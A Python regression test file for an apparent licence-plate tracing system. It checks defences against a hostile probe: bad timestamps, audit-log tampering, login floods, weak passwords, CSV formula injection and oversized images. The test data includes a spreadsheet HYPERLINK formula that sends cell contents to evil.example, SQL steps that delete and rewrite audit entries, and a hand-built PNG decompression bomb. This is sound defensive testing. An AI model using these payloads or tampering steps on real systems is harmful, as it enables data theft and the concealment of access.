"""Regressions of the hostile-but-realistic probe of issue 15: each test reproduces what the
probe broke (out-of-range timestamps, audit truncation, login floods, weak passwords, CSV
formula injection and the smaller findings) and checks it is refused now."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow as pa
import pytest
from argon2 import PasswordHasher

from tests.test_store_support import count, new_store
from tracing import safecsv, settings
from tracing.access import audit, passwords, retention, users
from tracing.errors import AccessError
from tracing.search import search_plates
from tracing.search.export import reads_csv
from tracing.search.query import reads_of_plates
from tracing.store import Store, checks, ingest, schema, window

SYSTEM = "system:test"
"""Who the tests act as: a system process, neither checked nor audited."""
GOOD_TS = "2026-03-01T08:00:00+07:00"
HOSTILE_TS = {
    "294247-01-01T00:00:00+00:00": window.TOO_FAR_AHEAD,
    "9999-12-31T20:00:00+00:00": window.TOO_FAR_AHEAD,
    "2300-01-01T00:00:00+00:00": window.TOO_FAR_AHEAD,
    "2026-03-01T00:00:00+25:00": window.OFFSET_RANGE,
    "2026-03-01T00:00:00-14:30": window.OFFSET_RANGE,
    "1900-01-01T00:00:00+00:00": window.TOO_OLD,
    "1999-12-31T23:59:59+00:00": window.TOO_OLD,
}


def _rejects(store: Store) -> list[tuple[str, dict[str, object]]]:
    with store.reader() as con:
        rows = con.execute("SELECT reason, row_json FROM rejects ORDER BY id").fetchall()
    return [(str(reason), json.loads(text)) for reason, text in rows]


def _search_everything(store: Store) -> None:
    """Every query and export the probe broke: wildcard, fuzzy and exact search, the reads
    export (local times)."""
    for query in ("51A*", "51A-123.45", "51A-123.46"):
        result = search_plates(store, query, who=SYSTEM)
        assert all(c.first_seen.year < 3000 for c in result.candidates)
    frame = reads_of_plates(store, ["51A-123.45", "51A-123.46", "51A-123.47"], who=SYSTEM)
    assert "2026-03-01T08:00:00+07:00" in reads_csv(frame)


def test_out_of_range_timestamps_are_rejected_with_their_reason(tmp_path: Path) -> None:
    store = new_store(tmp_path / "s.duckdb")
    near_future = (datetime.now(UTC) + timedelta(hours=2)).isoformat()
    far_future = (datetime.now(UTC) + timedelta(days=2)).isoformat()
    stamps = [*HOSTILE_TS, near_future, far_future, GOOD_TS, "2026-03-01T08:00:00+14:00"]
    frame = pd.DataFrame({"read_id": [f"r{i}" for i in range(len(stamps))],
                          "camera_id": "cam-a", "ts": stamps, "plate": "51A-123.45"})
    report = store.ingest(frame)
    assert report.inserted == 3 and report.rejected == len(HOSTILE_TS) + 1
    got = {str(row["ts"]): reason for reason, row in _rejects(store)}
    assert got == {**HOSTILE_TS, far_future: window.TOO_FAR_AHEAD}
    typed = pa.table({"camera_id": ["cam-a"] * 2, "plate": ["51A-123.46"] * 2,
                      "ts": pa.array([datetime(1990, 1, 1, tzinfo=UTC),
                                      datetime(9999, 12, 31, 20, tzinfo=UTC)],
                                     pa.timestamp("us", "UTC"))})
    assert dict(store.ingest(typed).reasons) == {window.TOO_OLD: 1, window.TOO_FAR_AHEAD: 1}
    _search_everything(store)


def _poisoned_version_5(path: Path) -> None:
    """A store of schema version 5 (before the window) holding the probe's reads."""
    con = duckdb.connect(str(path))
    assert schema.migrate(con, target=5) == 5
    con.execute("INSERT INTO cameras (id) VALUES ('cam-a')")
    rows = [("ok", GOOD_TS, "51A-123.45"), ("y294247", "294247-01-01 00:00:00+00", "51A-123.45"),
            ("y9999", "9999-12-31 20:00:00+00", "51A-123.46"),
            ("y2300", "2300-01-01 00:00:00+00", "51A-123.47"),
            ("y1900", "1900-01-01 00:00:00+00", "51A-123.47")]
    for read_id, ts, plate in rows:
        con.execute("INSERT INTO reads VALUES (?, 'cam-a', ?::TIMESTAMPTZ, ?, "
                    "replace(replace(?, '-', ''), '.', ''), ?, 0.9, NULL, NULL, NULL, 'v5', now())",
                    [read_id, ts, plate, plate, plate])
    con.execute(schema.FILL_READ_KEYS)
    con.close()


def test_an_old_store_holding_out_of_range_reads_is_quarantined_on_open(tmp_path: Path) -> None:
    path = tmp_path / "old.duckdb"
    _poisoned_version_5(path)
    with Store(path) as store:
        assert store.schema_version == schema.LATEST_VERSION
        assert count(store, "reads") == count(store, "read_keys") == 1
        moved = {str(row["read_id"]): reason for reason, row in _rejects(store)}
        assert moved == {"y294247": window.TOO_FAR_AHEAD, "y9999": window.TOO_FAR_AHEAD,
                         "y2300": window.TOO_FAR_AHEAD, "y1900": window.TOO_OLD}
        _search_everything(store)
        # the quarantined read_ids are forgotten: a corrected copy of one can be ingested
        fixed = pd.DataFrame({"read_id": ["y9999"], "camera_id": ["cam-a"],
                              "ts": ["2026-03-01T09:00:00+07:00"], "plate": ["51A-123.46"]})
        assert store.ingest(fixed).inserted == 1


def test_retention_moves_future_dated_reads_to_rejects(tmp_path: Path) -> None:
    store = new_store(tmp_path / "s.duckdb")
    now = datetime.now(UTC)
    frame = pd.DataFrame({"read_id": ["soon", "now"], "camera_id": "cam-a",
                          "ts": [(now + timedelta(hours=20)).isoformat(), now.isoformat()],
                          "plate": "51A-123.45"})
    assert store.ingest(frame).inserted == 2
    with store.writer() as con:  # written past ingest's checks (an older release, a script)
        con.execute("INSERT INTO reads SELECT 'y2300', camera_id, TIMESTAMPTZ '2300-01-01 "
                    "00:00:00+00', plate, plate_compact, plate_raw, confidence, NULL, NULL, "
                    "NULL, 'script', now() FROM reads WHERE read_id = 'now'")
    preview = retention.purge(store, dry_run=True)
    assert preview.out_of_window == 1 and count(store, "reads") == 3
    report = retention.purge(store)
    assert report.out_of_window == 1 and "moved 1 reads timed outside" in str(report)
    assert count(store, "reads") == 2  # the read 20 h ahead is inside the window
    assert [(r, row["read_id"]) for r, row in _rejects(store)] == [
        (window.TOO_FAR_AHEAD, "y2300")]


def test_the_cli_never_prints_a_traceback(capsys: pytest.CaptureFixture[str],
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    from tracing import __main__ as cli

    def broken(args: object) -> str:
        raise ValueError("year 294247 is out of range")

    parser = cli._parser()
    monkeypatch.setattr(cli, "_parser", lambda: parser)
    parser.set_defaults(handler=broken)
    for action in parser._subparsers._group_actions:  # type: ignore[union-attr]
        for sub in action.choices.values():  # type: ignore[union-attr]
            sub.set_defaults(handler=broken)
    assert cli.main(["users", "roles"]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err and "year 294247 is out of range" in err


# --- 2. audit truncation and wipe -------------------------------------------------------------

@pytest.fixture
def audited(tmp_path: Path) -> Store:
    with Store(tmp_path / "audit.duckdb") as store:
        for i in range(5):
            audit.record(store, who="ann", action="search", params={"plate": f"51A-123.4{i}"},
                         reason=f"case {i}")
        yield store


def _verify_cli(store: Store, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    from tracing.__main__ import main

    store.close()
    code = main(["audit", "verify", "--db", str(store.path)])
    out = capsys.readouterr()
    return code, out.out + out.err


def _head_of(con: duckdb.DuckDBPyConnection) -> None:
    """Point ``audit_head`` at the newest remaining entry (what a careful intruder does)."""
    con.execute("DELETE FROM store_meta WHERE key = 'audit_head'")
    con.execute("INSERT INTO store_meta SELECT 'audit_head', id || ':' || entry_hash "
                "FROM audit_log ORDER BY id DESC LIMIT 1")


def test_anchor_gets_one_line_per_committed_entry(audited: Store) -> None:
    lines = audit.read_anchor(audit.anchor_path(audited.path))
    assert lines is not None and [(a.entries, a.entry_id) for a in lines] == [
        (i, i) for i in range(1, 6)]
    with pytest.raises(RuntimeError), audited.writer() as con:  # rolled back: not anchored
        audit.record_in(con, who="ann", action="search", params={}, reason="case 9")
        raise RuntimeError("the change failed")
    assert len(audit.read_anchor(audit.anchor_path(audited.path)) or []) == 5
    assert audit.verify(audited).ok


def test_deleting_the_newest_entries_and_repointing_the_head_is_detected(
        audited: Store, capsys: pytest.CaptureFixture[str]) -> None:
    with audited.writer() as con:
        con.execute("DELETE FROM audit_log WHERE id >= 4")
        _head_of(con)
    code, text = _verify_cli(audited, capsys)
    assert code == 2 and "TAMPERED" in text and "after #3 up to #5 were removed" in text


def test_deleting_every_entry_and_the_head_is_detected(
        audited: Store, capsys: pytest.CaptureFixture[str]) -> None:
    with audited.writer() as con:
        con.execute("DELETE FROM audit_log")
        con.execute("DELETE FROM store_meta WHERE key = 'audit_head'")
    code, text = _verify_cli(audited, capsys)
    assert code == 2 and "every entry was removed" in text


def test_rewriting_history_with_recomputed_hashes_is_detected(audited: Store) -> None:
    with audited.writer() as con:
        rows = con.execute("SELECT id, who, epoch_us(logged_at), action, params, reason "
                           "FROM audit_log ORDER BY id").fetchall()
        prev = audit.GENESIS
        for entry_id, who, us, action, params, reason in rows:
            if entry_id == 2:
                reason = "nothing to see"
            digest = audit.entry_hash(entry_id, who, us, action, params, reason, prev)
            con.execute("UPDATE audit_log SET reason = ?, prev_hash = ?, entry_hash = ? "
                        "WHERE id = ?", [reason, prev, digest, entry_id])
            prev = digest
        _head_of(con)
    report = audit.verify(audited)
    assert [(p.entry_id, p.kind) for p in report.problems] == [(2, "edited")]
    assert "history was rewritten" in str(report)


def test_removing_the_anchor_is_detected_and_a_torn_line_is_not(audited: Store) -> None:
    path = audit.anchor_path(audited.path)
    with path.open("ab") as handle:
        handle.write(b"6 6 0123")  # a crash in the middle of an append
    assert audit.verify(audited).ok
    audit.record(audited, who="ann", action="search", params={}, reason="case 6")
    assert audit.verify(audited).ok
    assert [a.entry_id for a in audit.read_anchor(path) or []] == [1, 2, 3, 4, 5, 6]
    path.unlink()
    report = audit.verify(audited)
    assert not report.ok and "was removed or emptied" in str(report)
    path.write_text("5 5 not-a-hash\n")
    assert "line 1" in str(audit.verify(audited))


# --- 3. logins and passwords ------------------------------------------------------------------

PASSWORD = "correct horse battery"
WEAK = [" " * 10, "\u200b" * 10, "\u200b \u200b" * 6, "aaaaaaaaaa", "ababababab", "1234567890",
        "12345678901", "password12", "Password2024!", "p@ssw0rd!!", "qwertyuiop"]


class _CountingHasher:
    """The tests' cheap hasher, counting verifications and checking that none runs while
    the store's write lock is held."""

    def __init__(self, inner: PasswordHasher, store: Store) -> None:
        self.inner, self.store, self.verified = inner, store, 0

    def _outside_a_writer(self) -> None:
        assert not self.store._lease.write_mutex.locked(), "hashing inside a write transaction"

    def hash(self, password: str) -> str:
        self._outside_a_writer()
        return self.inner.hash(password)

    def verify(self, digest: str, password: str) -> bool:
        self._outside_a_writer()
        self.verified += 1
        return self.inner.verify(digest, password)

    def check_needs_rehash(self, digest: str) -> bool:
        return self.inner.check_needs_rehash(digest)


@pytest.fixture
def accounts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[
        tuple[Store, _CountingHasher]]:
    with Store(tmp_path / "users.duckdb") as store:
        hasher = _CountingHasher(users._hasher, store)
        monkeypatch.setattr(users, "_hasher", hasher)
        users.add_user(store, "ann", "investigator", who="test", password=PASSWORD)
        yield store, hasher


def _refusal(store: Store, name: str, password: str, **kw: object) -> str:
    with pytest.raises(AccessError) as info:
        users.authenticate(store, name, password, **kw)  # type: ignore[arg-type]
    return str(info.value)


def test_a_login_flood_is_throttled_by_source_and_aggregated_in_the_audit_log(
        accounts: tuple[Store, _CountingHasher]) -> None:
    store, hasher = accounts
    now = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
    before = len(audit.entries(store))
    messages = [_refusal(store, f"intruder{i}", "guess guess guess", source="10.0.0.9",
                         now=now + timedelta(milliseconds=i)) for i in range(300)]
    assert hasher.verified == settings.LOGIN_SOURCE_MAX_FAILURES  # then refused unchecked
    assert set(messages[:settings.LOGIN_SOURCE_MAX_FAILURES]) == {"wrong user name or password"}
    assert all("locked until" in m for m in messages[settings.LOGIN_SOURCE_MAX_FAILURES:])
    assert len(audit.entries(store)) == before  # not one row per failed attempt
    # another source is not held up, and the next attempt after the period writes one summary
    later = now + timedelta(seconds=settings.LOGIN_AUDIT_EVERY_S + 1)
    assert users.authenticate(store, "ann", PASSWORD, source="10.0.0.1", now=later).name == "ann"
    log = audit.entries(store)
    assert log["action"].tolist()[:2] == ["login", "login.failed.summary"]
    summary = json.loads(log.iloc[1]["params"])
    assert summary["unknown_name_failures"] == settings.LOGIN_SOURCE_MAX_FAILURES
    assert summary["refused_unchecked"] == 300 - settings.LOGIN_SOURCE_MAX_FAILURES
    assert summary["sources"] == {"10.0.0.9": 300}
    assert audit.verify(store).ok


def test_the_lockout_message_does_not_tell_whether_the_account_exists(
        accounts: tuple[Store, _CountingHasher]) -> None:
    store, _ = accounts
    now = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
    for name in ("ann", "nobody"):
        for i in range(settings.LOGIN_MAX_FAILURES):
            assert _refusal(store, name, "wrong wrong wrong", source=f"s-{name}-{i}",
                            now=now) == "wrong user name or password"
    first, second = (_refusal(store, name, PASSWORD, source="elsewhere",
                              now=now + timedelta(minutes=1)) for name in ("ann", "nobody"))
    assert first == second and "locked until" in first
    assert "ann" not in first and "nobody" not in second
    later = now + timedelta(minutes=settings.LOGIN_LOCKOUT_MINUTES + 1)
    assert users.authenticate(store, "ann", PASSWORD, now=later).name == "ann"


@pytest.mark.parametrize("weak", WEAK)
def test_weak_passwords_are_refused_on_every_way_of_setting_one(
        accounts: tuple[Store, _CountingHasher], weak: str) -> None:
    store, _ = accounts
    with pytest.raises(AccessError, match="password"):
        users.add_user(store, "bob", "analyst", who="admin", password=weak)
    secret = users.reset_password(store, "ann", who="admin")
    assert passwords.check_password(secret, "ann") == secret  # one-time passwords pass it
    with pytest.raises(AccessError, match="password"):  # the first login's forced change
        users.change_password(store, "ann", secret, weak)
    assert users.authenticate(store, "ann", secret).must_change
    assert passwords.check_password("correct horse battery staple", "ann")


def test_cli_and_first_run_passwords_pass_the_policy(tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    from tracing.__main__ import main

    db = tmp_path / "cli.duckdb"
    assert main(["users", "add", "carol", "--role", "analyst", "--db", str(db)]) == 0
    secret = capsys.readouterr().out.rsplit(" ", 1)[1].strip()
    assert passwords.check_password(secret, "carol") == secret
    with Store(tmp_path / "first.duckdb") as store:
        first = users.bootstrap_admin(store)
        assert first is not None and passwords.check_password(first, "admin") == first


# --- 4. CSV formula injection -------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_inert(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(safecsv.FORMULA_STARTS) or safecsv._PLAIN_NUMBER.fullmatch(
            cell), f"live formula in export: {cell!r}"


def test_the_neutralising_writer_keeps_numbers_and_quotes_formulas() -> None:
    frame = pd.DataFrame({"text": [*FORMULAS, "-12.5", "51A-123.45", None],
                          "number": [-1.5, -2, 3, 4, 5, 6, -7, 8, 9]})
    text = safecsv.frame_csv(frame)
    _assert_inert(text)
    back = pd.read_csv(io.StringIO(text, newline=""))
    assert back["number"].tolist() == frame["number"].tolist()  # still numbers
    assert back["text"].tolist()[:2] == ["'" + FORMULAS[0], "'+1+1"]
    assert back["text"].tolist()[6:8] == ["-12.5", "51A-123.45"]
    out = io.StringIO()
    safecsv.writer(out).writerow([*FORMULAS, -3, "-3"])
    assert _cells(out.getvalue())[-2:] == ["-3", "-3"]
    _assert_inert(out.getvalue())


def test_every_export_writes_formula_text_inert(tmp_path: Path) -> None:
    from tracing.alerts import watchlist

    store = new_store(tmp_path / "s.duckdb")
    rows = pd.DataFrame({"read_id": [f"f{i}" for i in range(len(FORMULAS))], "camera_id": "cam-a",
                         "ts": GOOD_TS, "plate": "51A-123.45", "vehicle_class": FORMULAS,
                         "plate_colour": FORMULAS[::-1], "crop_ref": FORMULAS,
                         "source": FORMULAS})
    assert store.ingest(rows).inserted == len(FORMULAS)
    reads = reads_of_plates(store, ["51A-123.45"], who=SYSTEM)
    _assert_inert(reads_csv(reads))
    for i, formula in enumerate(FORMULAS):
        audit.record(store, who="ann", action="export", params={"q": formula},
                     reason=f"case {i} {formula}" if i else formula)
    _assert_inert(audit.entries_csv(audit.entries(store)))
    for i, formula in enumerate(FORMULAS):
        watchlist.add_watch(store, f"51A-123.4{i}", match_kind="exact", reason=formula,
                            priority=1, who="ann")
    exported = watchlist.export_watch_csv(store)
    _assert_inert(exported)
    assert "'" + FORMULAS[0] in _cells(exported)


# --- 5. the smaller findings ----------------------------------------------------------------------

def _read(read_id: str, **extra: str) -> pd.DataFrame:
    return pd.DataFrame([{"read_id": read_id, "camera_id": "cam-a", "ts": GOOD_TS,
                          "plate": "51A-123.45", "confidence": "0.9", **extra}])


def test_a_resent_read_with_other_details_is_rejected_not_dropped(tmp_path: Path) -> None:
    store = new_store(tmp_path / "s.duckdb")
    assert store.ingest(_read("r1", vehicle_class="car")).inserted == 1
    assert store.ingest(_read("r1")).duplicates == 1  # nothing new: a duplicate
    assert store.ingest(_read("r1", vehicle_class="car")).duplicates == 1
    report = store.ingest(_read("r1", vehicle_class="truck", crop_ref="crops/r1.jpg"))
    assert dict(report.reasons) == {ingest.DETAIL_CONFLICT: 1}
    stored = _rejects(store)[-1][1]
    assert stored["crop_ref"] == "crops/r1.jpg" and stored["vehicle_class"] == "truck"
    both = pd.concat([_read("r2", crop_ref="a.jpg"), _read("r2", crop_ref="b.jpg")])
    assert dict(store.ingest(both).reasons) == {ingest.BATCH_DETAIL_CONFLICT: 1}


def test_the_same_bad_rows_in_a_second_file_keep_that_files_name(tmp_path: Path) -> None:
    store = new_store(tmp_path / "s.duckdb")
    bad = _read("x1", camera_id="no-such-camera")
    for name in ("first.csv", "second.csv", "first.csv"):
        bad.to_csv(tmp_path / name, index=False)
        assert store.ingest(tmp_path / name).rejected == 1
    with store.reader() as con:
        sources = [r[0] for r in con.execute("SELECT source FROM rejects ORDER BY id").fetchall()]
    assert sources == ["file:first.csv", "file:second.csv"]  # the repeat adds nothing


def test_a_line_over_1_mb_rejects_its_row_not_the_file(tmp_path: Path) -> None:
    store = new_store(tmp_path / "s.duckdb")
    path = tmp_path / "big.csv"
    frame = pd.concat([_read("ok1"), _read("big", vehicle_class="x" * 1_500_000),
                       _read("ok2")])
    frame.to_csv(path, index=False)
    report = store.ingest(path)
    assert (report.inserted, dict(report.reasons)) == (2, {checks.TEXT_TOO_LONG: 1})


def test_a_watchlist_csv_with_an_overlong_field_is_refused_cleanly(tmp_path: Path) -> None:
    from tracing.alerts import watchlist
    from tracing.errors import WatchlistError

    store = new_store(tmp_path / "s.duckdb")
    text = "pattern,match_kind,reason\n51A-123.45,exact," + "x" * 200_000 + "\n"
    with pytest.raises(WatchlistError, match="line"):
        watchlist.import_watch_csv(store, text, who="ann")


def test_a_huge_png_is_refused_from_its_header_before_decoding() -> None:
    import struct
    import time
    import zlib

    from recognition.errors import SourceError
    from recognition.sources import read_image

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    header = struct.pack(">IIBBBBB", 20_000, 20_000, 8, 2, 0, 0, 0)
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
           + chunk(b"IDAT", zlib.compress(b"\0" * 60_001)) + chunk(b"IEND", b""))
    started = time.monotonic()
    with pytest.raises(SourceError, match="pixels"):
        read_image(png, "bomb.png")
    assert time.monotonic() - started < 1.0


def test_a_video_with_frames_over_the_pixel_limit_is_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import cv2

    from recognition import sources
    from recognition.errors import SourceError

    class Huge:
        """A capture that opens and reports 8000×6000 frames (none is decoded)."""

        def __init__(self, *args: object) -> None:
            self.released = False

        def isOpened(self) -> bool:  # noqa: N802 - OpenCV's name
            return True

        def get(self, prop: int) -> float:
            return {cv2.CAP_PROP_FRAME_WIDTH: 8000.0, cv2.CAP_PROP_FRAME_HEIGHT: 6000.0,
                    cv2.CAP_PROP_FRAME_COUNT: 10.0, cv2.CAP_PROP_FPS: 25.0}.get(prop, 0.0)

        def grab(self) -> bool:
            raise AssertionError("a frame was decoded")

        def release(self) -> None:
            self.released = True

    video = tmp_path / "huge.mp4"
    video.write_bytes(b"not really a video")
    monkeypatch.setattr(sources.cv2, "VideoCapture", Huge)
    with pytest.raises(SourceError, match="8000×6000"):
        sources.open_source(video)


def test_a_full_width_asterisk_is_a_wildcard(tmp_path: Path) -> None:
    store = new_store(tmp_path / "s.duckdb")
    assert store.ingest(_read("w1")).inserted == 1
    for query in ("51A＊", "５１Ａ－１２３．４＊", "51A∗", "51A-123.4？"):
        result = search_plates(store, query, who=SYSTEM)
        assert result.mode == "wildcard" and [c.plate for c in result.candidates] == [
            "51A-123.45"], query
